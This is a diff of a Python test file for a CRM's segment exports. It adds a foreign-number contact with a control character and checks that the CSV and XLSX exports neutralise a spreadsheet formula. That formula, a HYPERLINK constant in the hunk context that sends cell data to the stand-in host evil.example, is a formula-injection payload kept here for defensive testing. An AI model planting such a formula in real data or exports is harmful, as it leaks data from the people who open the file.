@@ -32,8 +32,11 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Нажми")'
 TULA = "name: tula\ntitle: Из Тулы\nrule: {field: contact.city, op: eq, value: Тула}\n"
 
 
-def add_tula(env: AdminEnv, extra: int = 60) -> dict[str, int]:
-    """Tula: the two Petrovs of the sample, `extra` more people (every third with an order), and a formula name."""
+def add_tula(env: AdminEnv, extra: int = 60, abroad: bool = False) -> dict[str, int]:
+    """Tula: the two Petrovs of the sample, `extra` more people (every third with an order), and a formula name.
+
+    `abroad` adds one more: a Belarusian number, and a control character in the surname.
+    """
     now = utcnow()
     records: list[Any] = [
         ContactRecord(source="import:tula.csv", external_id=f"t{i}", first_name=f"Имя{i:03d}",
@@ -42,6 +45,9 @@ def add_tula(env: AdminEnv, extra: int = 60) -> dict[str, int]:
         for i in range(extra)]
     records.append(ContactRecord(source="import:tula.csv", external_id="evil", last_name=HYPERLINK,
                                  phones=["+7 912 999 88 77"], city="Тула"))
+    if abroad:
+        records.append(ContactRecord(source="import:tula.csv", external_id="minsk", last_name="Ким\x01",
+                                     first_name="Олег", phones=["+375 44 801 66 70"], city="Тула"))
     records += [OrderRecord(source="import:tula.csv", external_id=f"o{i}", contact_external_id=f"t{i}",
                             amount=Decimal(100 * (i + 1)), status="won", closed_at=now - dt.timedelta(days=i))
                 for i in range(0, extra, 3)]
@@ -51,9 +57,10 @@ def add_tula(env: AdminEnv, extra: int = 60) -> dict[str, int]:
     membership.refresh(env.engine, env.settings, ["tula"])
     with env.engine.connect() as conn:
         evil = conn.execute(select(Contact.id).where(Contact.last_name == HYPERLINK)).scalar_one()
+        minsk = conn.execute(select(Contact.id).where(Contact.first_name == "Олег")).scalar() or 0
         top = conn.execute(select(Contact.id).where(Contact.city == "Тула")
                            .order_by(Contact.revenue.desc(), Contact.id.desc())).first()
-    return {"evil": evil, "top": top.id if top else 0, "total": extra + 3}
+    return {"evil": evil, "minsk": minsk, "top": top.id if top else 0, "total": extra + 3 + abroad}
 
 
 def row_ids(page: str) -> list[int]:
@@ -211,7 +218,7 @@ def test_a_segment_saved_but_not_yet_counted_offers_no_empty_export(admin_env: A
 # --- exports -----------------------------------------------------------------------------------
 
 def test_csv_export_is_formula_safe_with_both_phone_forms_and_audited(admin_env: AdminEnv) -> None:
-    made = add_tula(admin_env, extra=4)
+    made = add_tula(admin_env, extra=3, abroad=True)
     marketer = client_as(admin_env, "marketer")
     answer = marketer.get("/segments/tula/members/export", query_string={"format": "csv"})
     assert answer.status_code == 200 and answer.mimetype == "text/csv"
@@ -224,6 +231,8 @@ def test_csv_export_is_formula_safe_with_both_phone_forms_and_audited(admin_env:
     evil = next(r for r in rows if r[0] == str(made["evil"]))
     assert evil[1] == "'" + HYPERLINK  # inert: a leading quote, shown as text
     assert evil[2] == "+79129998877" and evil[3] == "8 (912) 999-88-77"
+    minsk = next(r for r in rows if r[0] == str(made["minsk"]))
+    assert minsk[3] == "(+375) 44 801-66-70"  # a foreign number starts with no formula character: no apostrophe
     petrov = next(r for r in rows if r[0] == str(admin_env.ids["petrov_1"]))
     assert petrov[2] == "+74951110000" and petrov[3] == "8 (495) 111-00-00" and petrov[5] == "Тула"
     english = marketer.get("/segments/tula/members/export", query_string={"format": "csv", "lang": "en"})
@@ -239,7 +248,9 @@ def test_csv_export_is_formula_safe_with_both_phone_forms_and_audited(admin_env:
 
 
 def test_xlsx_export_writes_formulas_as_text_numbers_as_numbers(admin_env: AdminEnv) -> None:
-    made = add_tula(admin_env, extra=4)
+    made = add_tula(admin_env, extra=3, abroad=True)
+    with admin_env.engine.begin() as conn:  # imports clean names; one written some other way may hold anything
+        conn.execute(Contact.__table__.update().where(Contact.id == made["minsk"]).values(last_name="Ким\x01"))
     answer = client_as(admin_env, "admin").get("/segments/tula/members/export", query_string={"format": "xlsx"})
     assert answer.status_code == 200 and "spreadsheetml" in (answer.mimetype or "")
     book = openpyxl.load_workbook(io.BytesIO(answer.get_data()))
@@ -247,9 +258,16 @@ def test_xlsx_export_writes_formulas_as_text_numbers_as_numbers(admin_env: Admin
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0][:4] == ("Номер контакта", "Имя", "Телефон (E.164)", "Телефон") and len(rows) == 8
     evil_row = next(r for r in sheet.iter_rows() if r[0].value == made["evil"])
-    assert evil_row[1].data_type == "s" and evil_row[1].value == "'" + HYPERLINK
+    # Typed as text, the formula is inert with no apostrophe shown; a phone reads as written, "+" and all.
+    assert evil_row[1].data_type == "s" and evil_row[1].value == HYPERLINK
     assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)  # no formula anywhere
+    assert not any(isinstance(c.value, str) and c.value.startswith("'") for r in sheet.iter_rows() for c in r)
     assert evil_row[2].value == "+79129998877" and evil_row[2].data_type == "s"  # a phone stays text
+    assert evil_row[3].value == "8 (912) 999-88-77"
+    minsk = next(r for r in sheet.iter_rows() if r[0].value == made["minsk"])
+    assert minsk[3].value == "+375 44 801-66-70" and minsk[1].value == "Ким Олег"  # the control character dropped
+    widths = {key: sheet.column_dimensions[letter].width for key, letter in (("name", "B"), ("email", "E"))}
+    assert widths["name"] >= 30 and widths["email"] >= 30  # names and emails are not cut when the file opens
     top = next(r for r in rows[1:] if r[7])
     assert isinstance(top[7], int) and isinstance(top[9], dt.datetime)
     with admin_env.engine.connect() as conn:
